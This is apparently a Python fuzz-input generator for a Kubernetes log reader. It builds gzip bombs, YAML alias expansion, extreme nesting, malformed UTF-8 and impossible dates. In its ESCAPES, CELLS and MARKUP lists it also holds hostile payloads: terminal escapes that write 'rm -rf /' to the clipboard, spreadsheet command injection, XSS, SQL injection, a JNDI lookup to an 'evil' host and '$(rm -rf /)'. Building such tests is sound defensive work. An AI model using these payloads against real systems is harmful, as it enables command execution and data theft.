"""The hostile inputs: what each consists of, as chunks that are made while they are read.

`full` sizes are those of the real run; small ones keep their shape. Good lines stand before, between and after.
"""
import base64
import gzip
import io
import json
import random
import struct
import zlib

KIB, MIB, GIB = 2**10, 2**20, 2**30
GOOD = [
    'I1123 14:{m}:16.123456     506 server.go:467] "Kubelet version" kubeletVersion="v1.31.0"',
    'I1123 14:{m}:17.123456     506 kubelet_node_status.go:72] "Attempting to register node" node="{h}"',
    'I1123 14:{m}:18.123456     506 kubelet_node_status.go:75] "Successfully registered node" node="{h}"',
    'E1123 14:{m}:19.123456     506 kubelet.go:2900] "Container runtime network not ready" networkReady="NetworkReady='
    'false reason:NetworkPluginNotReady message:Network plugin returns error: cni plugin not initialized"',
    'I1123 14:{m}:29.123456     506 kubelet_node_status.go:488] "Fast updating node status as it just became ready"',
]
HEAD = "Nov 23 14:40:00 h kubelet[506]: "
KLOG = "I1123 14:40:00.000001     506 "


def good(place):
    """Lines of a kubelet's journal, each an event of its own."""
    minute = {"before": 36, "between": 38, "after": 50}[place]
    host = f"good-{place}"
    return "".join(
        f"Nov 23 14:{minute}:{second} {host} kubelet[506]: " + text.format(m=minute, h=host) + "\n"
        for text, second in zip(GOOD, (16, 17, 18, 19, 29))).encode()


def repeated(piece, size):
    """`size` bytes of a piece over and over."""
    piece = piece if isinstance(piece, bytes) else piece.encode()
    whole = piece * (MIB // len(piece) + 1)
    whole = whole[:len(whole) // len(piece) * len(piece)]
    while size >= len(whole):
        yield whole
        size -= len(whole)
    yield whole[:size // len(piece) * len(piece)]


def numbered(count, text, step=10_000):
    """Lines or pieces by number."""
    for start in range(0, count, step):
        yield "".join(map(text, range(start, min(start + step, count)))).encode()


def two_problems(host, hour):
    head = f"Nov 23 {hour}:10:00 host{host} kubelet[1]: E1123 {hour}:10:00.000000       1 "
    return (f'{head}kubelet.go:2902] "Container runtime network not ready" networkReady="NetworkReady=false '
            'reason:NetworkPluginNotReady message:Network plugin returns error: cni plugin not initialized"\n'
            f'{head}run.go:72] "command failed" err="failed to run Kubelet: running with swap on is not supported"\n')


def noise(size, seed, alphabet=None):
    random_ = random.Random(seed)
    while size > 0:
        piece = random_.randbytes(min(size, MIB))
        yield bytes(alphabet[byte % len(alphabet)] for byte in piece) if alphabet else piece
        size -= len(piece)


class Input:
    """A stream, and what is expected of reading it."""

    def __init__(
        self, kind, name, parts, options=(), status=0, cut=0, bad=0, swallows=(), answers=256, memory=64, plain=False,
        seconds=None, holds=None
    ):
        self.kind, self.name, self.parts, self.options, self.status = kind, name, parts, list(options), status
        # At least so many lines are told as too long and as no UTF-8.
        self.cut, self.bad = cut, bad
        # Good lines that this input rightly takes into itself, by their place.
        self.swallows = set(swallows)
        # The peak in MiB that reading, and that answering may have.
        self.memory, self.answers = memory, answers
        self.plain, self.seconds, self.holds = plain, seconds, holds

    def chunks(self):
        """Good lines around each part; `plain` inputs are given as they are."""
        if self.plain:
            yield from self.parts()
            return
        yield good("before")
        parts = self.parts()
        halves = parts if isinstance(parts, tuple) else (parts,)
        yield from halves[0]
        yield b"\n" + good("between")
        if len(halves) > 1:
            yield from halves[1]
        yield b"\n" + good("after")


def member(chunks):
    """A gzip member of chunks."""
    packer = zlib.compressobj(6, zlib.DEFLATED, 31)
    for chunk in chunks:
        if packed := packer.compress(chunk):
            yield packed
    yield packer.flush()


def line(*pieces):
    for piece in pieces:
        if isinstance(piece, (bytes, str)):
            yield piece if isinstance(piece, bytes) else piece.encode()
        else:
            yield from piece


def listing(count, role, nodes=None):
    """Rows of nodes, each another one, or of so many by turns that become ready and not."""
    def row(number):
        name, is_ready = (number, True) if nodes is None else (number % nodes, number // nodes % 2 == 0)
        return f"node{name}   {'' if is_ready else 'Not'}Ready   {role}   1d   v1.31.0\n"
    return line("NAME   STATUS   ROLES   AGE   VERSION\n", numbered(count, row)),


def nest(depth, left="[", right="]"):
    return left * depth + right * depth


ESCAPES = {
    "the clipboard (OSC 52)": "\x1b]52;c;cm0gLXJmIC8=\x07", "a title that is answered": "\x1b]0;x\x07\x1b[21t",
    "DECRQSS": "\x1bP$q\"p\x1b\\", "a link (OSC 8)": "\x1b]8;;http://evil.example/\x1b\\good\x1b]8;;\x1b\\",
    "moves of the cursor": "\x1b[2J\x1b[H\x1b[99;99Hx\x1b[1A\x1b[2K", "backspaces": "good\b\b\b\bevil\x7f\x7f",
    "C1 controls": "\u009b31m\u009d52;c;eA==\u009c\u0090", "a return over the line": "evil\rgood",
    "marks of direction": "\u202egpj.exe\u2066x\u2069\u200f\u061c", "NULs and bells": "a\x00b\x07\x07c\x0e\x0f",
    "keys programmed (DECUDK)": "\x1bP1;1|17/726d\x1b\\", "the device is asked": "\x1b[c\x1b[6n\x1b[5n\x1bZ\x05",
}
CELLS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://e\",\"x\")", "=cmd|' /C calc'!A0", "'=1",
         "\"=1", "\uff1d1"]
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'); DROP TABLE events; --", "\" OR 1=1 --",
    "](javascript:alert(1))", "![x](http://evil/x.png)", "```\n<script>", "</title><script>", "|a|b|", "</pre><svg/onload=x>",
    "&lt;script&gt;", "<!--", "]]>", "%%{init: {}}%%", "click A href \"javascript:x\"", "section <script>",
    "{{constructor.constructor('x')()}}", "${jndi:ldap://evil}", "$(rm -rf /)", "`rm`"]


def told_of(texts, kubelet=True):
    """Events of nodes with each text in messages, names, attributes and rows of tables."""
    for number, text in enumerate(texts):
        quoted = json.dumps(text, ensure_ascii=False)
        flat = text.replace("\n", " ")
        yield (
            HEAD + f'E1123 14:4{number % 10}:30.000001     506 kubelet.go:2900] "Container runtime network not ready" '
            f'networkReady="NetworkReady=false reason:NetworkPluginNotReady message:{flat}"\n'
            + HEAD + f'E1123 14:4{number % 10}:31.000001     506 pod_workers.go:1301] "Error syncing pod, skipping" err='
            f'{quoted} pod={quoted}\n'
            f"[preflight] Some fatal errors occurred:\n\t[ERROR {flat}]: {flat}\n"
            f"[init] Using Kubernetes version: {flat}\n[certs] apiserver serving cert is signed for DNS names [{flat}] and "
            f"IPs [{flat}]\nerror execution phase preflight: {flat}\n"
            "kubeadm join lb:6443 --token 9vr73a.a8uxyaju799qwdjv --discovery-token-ca-cert-hash "
            f"sha256:7c2e69131a36ae2a042a339b33381c6d0d43887e2de83720eff5359e26aec866 --node-name '{flat}'\n").encode()
        row = flat.replace(" ", "_")
        yield (
            "NAME   STATUS   ROLES   AGE   VERSION\n" f"{row}   Ready   {row}   1d   {row}\n"
            f"n{number}   {row}   <none>   1d   v1.31.0\n\n").encode()
        for values in (("_HOSTNAME", text), ("_SYSTEMD_UNIT", text), ("SYSLOG_IDENTIFIER", text)):
            entry = {
                "__REALTIME_TIMESTAMP": "1795444800000000", "_HOSTNAME": "h", "SYSLOG_IDENTIFIER": "kubelet", "_PID": "9",
                "MESSAGE": 'I1123 14:36:17.123456     9 kubelet_node_status.go:75] "Successfully registered node" node='
                + quoted}
            entry[values[0]] = values[1]
            yield json.dumps(entry).encode() + b"\n"
        node = {
            "apiVersion": "v1", "kind": "Node", "metadata": {"name": text, "labels": {text: text}, "creationTimestamp": text},
            "status": {
                "nodeInfo": {"kubeletVersion": text, "osImage": text, "kernelVersion": text, "containerRuntimeVersion": text},
                "addresses": [{"type": "InternalIP", "address": text}],
                "conditions": [{"type": "Ready", "status": "False", "reason": text, "message": text,
                                "lastTransitionTime": "2026-11-23T14:40:00Z"}]}}
        yield json.dumps(node).encode() + b"\n"
        yield (
            json.dumps({"log": f"[kubelet] {text}\n", "stream": text, "time": "2026-11-23T14:40:00Z"}) + "\n").encode()


HUGE = [
    "99999999999999999999", "-1", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "1e30", "0x7f", "∞",
    "4294967296", "18446744073709551616", "000000000000000000000001", "1.7976931348623157e308", "NaN"]
DATES = [
    "9999999-11-23T14:00:00Z", "0000-00-00T00:00:00Z", "2026-02-30T12:00:00Z", "2026-06-30T23:59:60Z",
    "2026-11-23T24:00:00Z", "2026-13-01T00:00:00Z", "2026-11-23T14:00:00+99:99", "292277026596-12-04T15:30:08Z",
    "-292277022399-01-01T00:00:00Z", "2026-11-23T14:00:00." + "9" * 400 + "Z", "1677-09-21T00:12:43Z", "2262-04-11T23:47:17Z"]


def numbers():
    for value in HUGE:
        entry = {
            "__REALTIME_TIMESTAMP": value, "__MONOTONIC_TIMESTAMP": value, "_PID": value, "_HOSTNAME": "n", "__CURSOR": value,
            "SYSLOG_IDENTIFIER": "kubelet", "MESSAGE": 'E1123 14:40:00.000001     9 kubelet.go:2900] "x" err="y"'}
        yield (
            f"I1123 14:40:00.{value} {value} server.go:{value}] \"Kubelet version\" kubeletVersion=\"v{value}.{value}.{value}\"\n"
            f"I{value} 14:40:00.000001 506 server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n"
            f"{value} n kubelet[{value}]: {KLOG}server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n"
            f"{value}.{value} n kubelet[{value}]: {KLOG}server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n"
            f"[{value}.{value}] kubelet[{value}]: {KLOG}server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n"
            f"{HEAD}W1123 14:41:00.000001 506 reflector.go:1] \"watch lasted\" after=\"{value}h{value}m{value}s\" n={value}\n"
            f"Nov 23 14:40:00 n systemd[1]: kubelet.service: Scheduled restart job, restart counter is at {value}.\n"
            f"[apiclient] All control plane components are healthy after {value} seconds\n"
            f"[kubelet-check] The kubelet is healthy after {value}s\n"
            f"$ kubeadm token create --ttl {value}h\n9vr73a.a8uxyaju799qwdjv\n$ kubeadm init --token-ttl {value}s\n"
            "TOKEN   TTL   EXPIRES   USAGES   DESCRIPTION   EXTRA GROUPS\n"
            f"9vr73a.a8uxyaju799qwdjv   {value}h   {value}   authentication,signing   <none>   system:bootstrappers\n\n"
            f"NAME   STATUS   ROLES   AGE   VERSION\nn   Ready   <none>   {value}d   v1.31.0\nm   Ready   <none>   {value}y"
            f"{value}d   v{value}\n\nLAST SEEN   TYPE   REASON   OBJECT   MESSAGE\n{value}m   Normal   NodeReady   node/n   Node n "
            f"status is now: NodeReady\n{value}s (x{value} over {value}d)   Normal   NodeReady   node/n   Node n is ready\n\n"
            "CERTIFICATE   EXPIRES   RESIDUAL TIME   CERTIFICATE AUTHORITY   EXTERNALLY MANAGED\n"
            f"admin.conf   Nov 23, {value} 14:00 UTC   {value}y   ca   no\n\n").encode()
        yield json.dumps(entry).encode() + b"\n"
        yield (
            '{"apiVersion":"v1","kind":"Event","count":' + (value if value.isdigit() else '"x"') + ',"involvedObject":'
            '{"kind":"Node","name":"n"},"reason":"NodeReady","lastTimestamp":"' + value + '"}\n').encode()
        yield (
            '{"apiVersion":"v1","kind":"Node","metadata":{"name":"q","creationTimestamp":' + value.replace("∞", "1e999")
            + '}}\n').encode()


def dates():
    for date in DATES:
        yield (
            f"{date} n kubelet[9]: {KLOG}server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n"
            f"{date} stdout F {KLOG}server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n"
            f"{date} [init] Using Kubernetes version: v1.31.0\nScript started on {date}\nScript done on {date}\n").encode()
        yield json.dumps({"log": "[init] Using Kubernetes version: v1.31.0\n", "stream": "stderr", "time": date}).encode() + b"\n"
        yield (
            '{"ts":' + ("1e30" if "9999" in date else "-1e300") + f',"caller":"server.go:467","msg":"Kubelet version","v":0}}\n'
            f'{{"level":"warn","ts":"{date}","caller":"etcdserver/x.go:1","msg":"apply request took too long"}}\n'
            f'time="{date}" level=error msg="failed"\n').encode()
    for klog in ("0230 25:61:61.123456", "1332 14:00:00.123456", "0000 00:00:00.000000", "1231 23:59:60.999999"):
        yield f"E{klog}     506 server.go:467] \"Kubelet version\" kubeletVersion=\"v1.31.0\"\n".encode()


def utf16():
    return b"\xff\xfe" + (good("before") + good("between")).decode().encode("utf-16-le") + b"\x41"


def aliases():
    yield b"apiVersion: v1\nkind: List\na: &a [x,x,x,x,x,x,x,x,x]\n"
    names = "abcdefghijklmnop"
    for before, name in zip(names, names[1:]):
        yield f"{name}: &{name} [{','.join(['*' + before] * 9)}]\n".encode()
    yield b"---\n"


def growing(size, chunk):
    yield from repeated(chunk, size)


def bombs(size):
    return b"".join(member(line(good("before"), repeated(b"\0", size), b"\n", good("between"), good("after"))))


def broken(count):
    """UTF-8 that is cut, overlong, of surrogates, beyond the last character, or nothing at all."""
    kinds = [b"\xc3", b"\xe2\x82", b"\xf0\x9f\x98", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xed\xa0\x80",
             b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xff\xfe", b"\x80"]
    for start in range(0, count, 1000):
        yield b"".join(
            HEAD.encode() + b'E1123 14:40:00.000001     506 kubelet.go:1] "x' + kinds[n % 11] + b'" err="' + kinds[n % 7]
            + b'"\n' for n in range(start, start + 1000))


TOKEN = "{:06x}.{:016x}"


def inputs(full, many=None):
    """All streams; in the `full` run gigabytes and millions. `many` is how many come of what comes in numbers."""
    long = 4 * GIB if full else 8 * MIB
    gib = GIB if full else 4 * MIB
    many = many or (1_000_000 if full else 20_000)
    deep = 100_000 if full else 20_000
    some = 64 * MIB if full else MIB
    text = lambda size: repeated("abcdefgh ", size)
    yield Input("long", f"a line of {long >> 20:,} MiB", lambda: (text(long),), cut=1)
    yield Input("long", "a line that never ends, of NULs", lambda: (repeated(b"\0", gib),), cut=1)
    yield Input("long", "a line of returns", lambda: (repeated(b"\r", gib),), cut=1)
    yield Input("long", "a line of backspaces", lambda: (repeated(b"x\b", gib),), cut=1)
    yield Input("long", "lines of 1 MiB and a byte", lambda: (line(*(
        piece for _ in range(16) for piece in (repeated("y", MIB + 1), "\n"))),), cut=16)
    yield Input("long", "a message of a kubelet", lambda: (line(HEAD, KLOG, 'kubelet.go:1] "', text(gib), '"'),), cut=1)
    yield Input("long", "a pair of klog", lambda: (
        line(HEAD, KLOG, 'kubelet.go:1] "x" err="', repeated('\\"', gib), '"'),), cut=1)
    yield Input("long", "MESSAGE of an entry in JSON", lambda: (
        line('{"__REALTIME_TIMESTAMP":"1795444800000000","SYSLOG_IDENTIFIER":"kubelet","MESSAGE":"', text(gib), '"}'),), cut=1)
    yield Input("long", "MESSAGE of bytes in JSON", lambda: (
        line('{"SYSLOG_IDENTIFIER":"kubelet","MESSAGE":[', repeated("65,", gib), "65]}"),), cut=1)
    yield Input("long", "an export field of 2^60 bytes", lambda: (
        line(b"__CURSOR=s\n__REALTIME_TIMESTAMP=1795444800000000\nMESSAGE\n", struct.pack("<Q", 2**60), text(some)),),
        swallows=("between", "after"))
    yield Input("long", "an export field of a gigabyte", lambda: (
        line(b"__CURSOR=s\n__REALTIME_TIMESTAMP=1795444800000000\nMESSAGE\n", struct.pack("<Q", gib // 9 * 9), text(gib),
             "\n\n"),))
    yield Input("long", "an export entry that never ends", lambda: (
        line(b"__CURSOR=s\n", numbered(many, lambda n: f"FIELD_{n}=x\n")),))
    yield Input("long", "parts of CRI that never end", lambda: (
        repeated("2026-11-23T14:40:00.000000000Z stderr P abcdefghijklmnop\n", some),))
    yield Input("long", "parts of CRI in both streams by turns", lambda: (
        repeated("2026-11-23T14:40:00Z stderr P a\n2026-11-23T14:40:00Z stdout P b\n", some),))
    yield Input("long", "a line of Docker's", lambda: (
        line('{"log":"', text(gib), '\\n","stream":"stderr","time":"2026-11-23T14:40:00Z"}'),), cut=1)
    yield Input("long", "parts of Docker's that never end", lambda: (
        repeated('{"log":"abcdefghijk","stream":"stderr","time":"2026-11-23T14:40:00Z"}\n', some),))
    yield Input("long", "a block of klog that never closes", lambda: (
        line(HEAD, 'E1123 14:40:00.000001     506 kubelet.go:74] "x" err=<\n', repeated("\tmore of it\n", some)),))
    yield Input("long", "journalctl -o verbose without end", lambda: (
        line("Mon 2026-11-23 14:40:00.123456 UTC [s=1;i=1]\n", repeated("    FIELD=value\n", some)),))
    yield Input("long", "a row of kubectl of a MiB", lambda: (
        line("NAME   STATUS   ROLES   AGE   VERSION\n", repeated("n", MIB - 100), "   Ready   <none>   1d   v1.31.0\n",
             "n   Ready   ", repeated("role,", MIB), "x   1d   v1\n"),), cut=1)
    yield Input("long", "a document in JSON that never ends", lambda: (
        line('{"apiVersion":"v1","kind":"NodeList","items":[\n', repeated('{"kind":"Node"},\n', some)),))
    yield Input("long", "a document in YAML that never ends", lambda: (
        line("apiVersion: v1\nkind: NodeList\nitems:\n", repeated("- kind: Node\n", some)),))
    yield Input("long", "a text in YAML that never ends", lambda: (
        line("apiVersion: v1\nkind: Node\nmetadata:\n  name: |\n", repeated("    more\n", some)),))
    yield Input("long", "a list of kubeadm's checks that never ends", lambda: (
        line("[preflight] Some fatal errors occurred:\n", repeated("\t[ERROR Swap]: swap is on\n", some)),))
    yield Input("long", "a join command that goes on and on", lambda: (
        line("kubeadm join lb:6443 --token 9vr73a.a8uxyaju799qwdjv \\\n", repeated("\t--v=5 \\\n", some)),))
    yield Input("long", "empty lines", lambda: (repeated("\n", some),))
    yield Input("long", "no line end at all, 'a' once", lambda: iter([b"a"]), plain=True, swallows=("before", "between", "after"))
    yield Input("bytes", "NULs between lines", lambda: (repeated(b"\0\0\0\n", some),))
    yield Input("bytes", "random bytes", lambda: (noise(some, 1),), bad=10)
    yield Input("bytes", "random bytes of escapes", lambda: (noise(some // 8, 2, b"\x1b[]P0123;m\x07\\\nABCDHJKx?h"),))
    yield Input("bytes", "random letters of JSON", lambda: (noise(some // 8, 3, b'{}[]":,\\0\n eE-kind'),))
    yield Input("bytes", "UTF-8 cut, overlong, of surrogates", lambda: (broken(many // 10),), bad=900)
    yield Input("bytes", "UTF-16 with half a unit", lambda: iter([utf16()]), plain=True, swallows=("after",))
    yield Input("bytes", "UTF-16 of lone surrogates", lambda: line(
        b"\xff\xfe", good("before").decode().encode("utf-16-le"), repeated(b"\x00\xd8", some)), plain=True,
        swallows=("between", "after"))
    yield Input("bytes", "gzip of NULs", lambda: iter([bombs(gib)]), plain=True, cut=1)
    yield Input("bytes", "gzip of gzip of NULs", lambda: member(iter([bombs(gib)])), plain=True,
                swallows=("before", "between", "after"))
    yield Input("bytes", "gzip that is cut", lambda: iter([bombs(some)[:-200]]), plain=True, status=65, swallows=(
        "between", "after"))
    yield Input("bytes", "many empty members of gzip", lambda: line(
        b"".join(member([good("before")])), repeated(b"".join(member([b""])), some // 20)), plain=True,
        swallows=("between", "after"))
    yield Input("bytes", "bytes after gzip", lambda: line(
        b"".join(member([good("before")])), noise(MIB, 4)), plain=True, swallows=("between", "after"))
    for name, sign in ESCAPES.items():
        yield Input("escapes", name, lambda sign=sign: (told_of([sign, f"a{sign}b"]), told_of([f"x {sign}"])))
    yield Input("escapes", "sequences that never end", lambda: (
        line(repeated("\x1b]0;title", some), "\n", repeated("\x1b[1;", some), "\n"),), cut=2 if full else 0)
    yield Input("escapes", "a screen painted for ever", lambda: (
        line("\x1b[?1049h", repeated("\x1b[9999;9999Hx\x1b[9999C\x1b[1;1H", some // 8), "\x1b[?1049l\n"),))
    yield Input("many", "process ids", lambda: (
        numbered(many, lambda n: f'Nov 23 14:40:00 h kubelet[{n}]: {KLOG}kubelet.go:1] "x" n="{n}"\n'),))
    yield Input("many", "hosts", lambda: (
        numbered(many, lambda n: f"Nov 23 14:40:00 host{n} kubelet[1]: {KLOG}server.go:467] \"Kubelet version\" "
                 'kubeletVersion="v1.31.0"\n'),), memory=512, answers=1024,
        # Of one input 65,536 names are told apart: what comes after is there, of no node.
        swallows=("between", "after") if many > 65_536 else ())
    yield Input("many", "hosts that each have two problems, again an hour later", lambda: (
        numbered(many // 10, lambda n: two_problems(n % (many // 20), 12 + n // (many // 20))),), memory=512, answers=1024)
    yield Input("many", "units", lambda: (
        numbered(many, lambda n: f"Nov 23 14:40:00 h unit{n}[1]: [init] Using Kubernetes version: v1.31.0\n"),),
        memory=512, answers=2560)
    yield Input("many", "streams of CRI in pods' names", lambda: (
        numbered(many, lambda n: f"[pod/etcd-{n}/etcd] 2026-11-23T14:40:00Z stderr P x\n"),))
    yield Input("many", "resources of Terraform", lambda: (
        numbered(many, lambda n: f"null_resource.a{n} (remote-exec): [init] Using Kubernetes version: v1.31.0\n"),),
        memory=512, answers=1024)
    yield Input("many", "nodes in a table", lambda: listing(many, "<none>"), memory=512, answers=2560)
    yield Input("many", "nodes that are watched", lambda: listing(many, "<none>", 1000), memory=512, answers=1536)
    yield Input("many", "members of a control plane", lambda: listing(many, "control-plane"), memory=512, answers=2560)
    yield Input("many", "members of a control plane that are watched", lambda: listing(many, "control-plane", 1000), memory=512,
                answers=1536)
    yield Input("many", "nodes in a list of JSON", lambda: (
        line('{"apiVersion":"v1","kind":"NodeList","items":[', numbered(
            many // 10, lambda n: f'{{"kind":"Node","metadata":{{"name":"j{n}"}},"status":{{"conditions":[{{"type":"Ready",'
            f'"status":"True","lastTransitionTime":"2026-11-23T14:40:00Z"}}]}}}},\n'), "{}]}\n"),), memory=512, answers=1024)
    yield Input("many", "beginnings of init", lambda: (
        repeated("[init] Using Kubernetes version: v1.31.0\n", 41 * many),), memory=512, answers=1024)
    yield Input("many", "beginnings of join, each of another version", lambda: (
        numbered(many // 10, lambda n: f"$ kubeadm init --kubernetes-version v1.31.{n}\n[init] Using Kubernetes version: "
                 f"v1.31.{n}\n[preflight] Running pre-flight checks\n"),), memory=512, answers=1024)
    yield Input("many", "tags", lambda: (
        line("[init] Using Kubernetes version: v1.31.0\n", numbered(many, lambda n: f"[tag{n}] x\n")),), memory=512, answers=1024)
    yield Input("many", "tokens", lambda: (
        numbered(many // 10, lambda n: "kubeadm join lb:6443 --token " + TOKEN.format(n, n) + "\n"),), memory=512, answers=1024)
    yield Input("many", "pairs of a line", lambda: (
        line(HEAD, KLOG, 'kubelet.go:1] "x"', numbered(many // 20, lambda n: f' a{n}="b"')),))
    yield Input("many", "shapes that nobody knows", lambda: (
        numbered(many, lambda n: f"Nov 23 14:40:00 h kubelet[1]: {KLOG}f{n}.go:1] \"word{n}\"\n"),))
    yield Input("many", "conditions that are said over and over", lambda: (
        numbered(many, lambda n: f"Nov 23 14:{n % 60:02}:00 h kubelet[506]: E1123 14:{n % 60:02}:00.{n:06}     506 "
                 'kubelet.go:2900] "Container runtime network not ready" networkReady="NetworkReady=false reason:'
                 f'NetworkPluginNotReady message:{n}"\n'),), memory=128, answers=1024)
    yield Input("deep", "JSON, lists", lambda: (line('{"apiVersion":"v1","kind":"Node","metadata":', nest(deep), "}\n"),))
    yield Input("deep", "JSON, objects", lambda: (
        line('{"apiVersion":"v1","kind":', nest(deep, '{"a":', "}").replace(":}", ":1}", 1), "}\n"),))
    yield Input("deep", "JSON, never closed", lambda: (line('{"apiVersion":"v1","kind":"List","items":', "[\n" * deep),))
    yield Input("deep", "a journal's entry", lambda: (line('{"_PID":"1","MESSAGE":', nest(deep), "}\n"),))
    yield Input("deep", "a result of Ansible", lambda: (
        line("ok: [m1] => ", nest(deep, '{"a":', "}").replace(":}", ":1}", 1), "\n"),))
    yield Input("deep", "YAML, flow", lambda: (line("apiVersion: v1\nitems: ", nest(deep), "\n---\n"),))
    yield Input("deep", "YAML, blocks", lambda: (
        line("apiVersion: v1\nkind: Node\n", *("  " * n + "a:\n" for n in range(min(deep, 1000))), "---\n"),))
    yield Input("deep", "YAML, aliases of aliases", lambda: (aliases(),))
    yield Input("deep", "quotes in quotes", lambda: (
        line(HEAD, KLOG, 'kubelet.go:1] "x" err="' + "\\" * deep + '"\n', HEAD, KLOG, 'kubelet.go:1] "x" a=' + "{[(" * deep),))
    yield Input("deep", "klog in JSON in Docker in CRI", lambda: (iter([nested(40)]),))
    yield Input("numbers", "huge numbers in every place", lambda: (numbers(), numbers()))
    yield Input("numbers", "dates that are none", lambda: (dates(), dates()))
    yield Input("injection", "cells of a spreadsheet", lambda: (told_of(CELLS),), answers=256)
    yield Input("injection", "HTML, SQL, Markdown and Mermaid", lambda: (told_of(MARKUP),), answers=256)


def nested(levels):
    text = KLOG + 'server.go:467] "Kubelet version" kubeletVersion="v1.31.0"'
    for level in range(levels):
        text = json.dumps({"log": text + "\n", "stream": "stderr", "time": "2026-11-23T14:40:00Z"})
        if len(text) > MIB // 2:
            break
    return text.encode() + b"\n"
